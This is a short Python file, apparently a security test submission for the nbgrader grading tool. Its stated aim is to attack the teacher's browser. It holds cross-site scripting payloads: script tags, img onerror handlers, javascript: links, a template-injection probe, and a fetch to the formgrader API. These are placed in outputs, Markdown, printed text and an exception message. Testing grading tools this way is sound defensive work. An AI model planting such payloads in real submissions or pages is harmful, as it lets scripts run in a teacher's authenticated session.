"""Attacks the teacher's browser with scripts in answers, messages, outputs, Markdown and names.

Stock nbgrader: they run in the form grader and in the feedback page, in the teacher's own session.
"""

NAMED = "is HTML with code"
OUTPUT_HTML = "<script>document.title = 'hostile'; fetch('/formgrader/api')</script><img src=x onerror='alert(1)'>"
MARKDOWN = "<script>document.title = 'hostile'</script> [click](javascript:alert(1)) <img src=x onerror='alert(1)'>"

SCRIPT = "</pre></code><script>document.title = 'hostile'</script><img src=x onerror=alert(1)>"
print(SCRIPT)


def words(line):
    if line == " ":
        raise ValueError(SCRIPT)
    return [SCRIPT, "{{ 7 * 7 }}", "javascript:alert(1)"]
